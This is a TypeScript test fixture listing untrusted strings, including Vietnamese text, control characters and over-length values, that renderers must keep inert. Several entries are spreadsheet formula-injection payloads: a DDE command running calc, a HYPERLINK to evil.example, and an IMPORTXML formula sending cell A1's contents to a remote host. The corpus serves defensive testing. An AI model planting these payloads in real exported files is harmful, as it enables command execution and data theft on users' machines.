/**
 * Untrusted text that must stay inert: formula-like strings (CSV/DDE injection), control characters, very long
 * text and characters XML cannot carry directly.
 */
export const INJECTION_CORPUS: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://evil.example","bấm vào đây")',
  "+84 912 345 678",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=cmd|' /C calc'!A0",
  "\r=1+1",
  "'=quoted",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  "Dòng 1\nDòng 2\r\nDòng 3",
  "ký tự điều khiển \u0001\u0002\u001f và _x0041_",
  "xóa lùi DEL\u007fgiữa chữ và _x007F_",
  "1/2",
  "00123",
  "TRUE",
  "Đạt",
  "Ứ".repeat(3900),
];

/**
 * Hostile text longer than the return format allows in a note (4 000 characters): the renderers write it, and
 * reading it back must report the cell and the limit, not crash or drop it.
 */
export const OVER_LIMIT_NOTE = `=HYPERLINK("http://evil.example")${"Ứ".repeat(4000)}`;
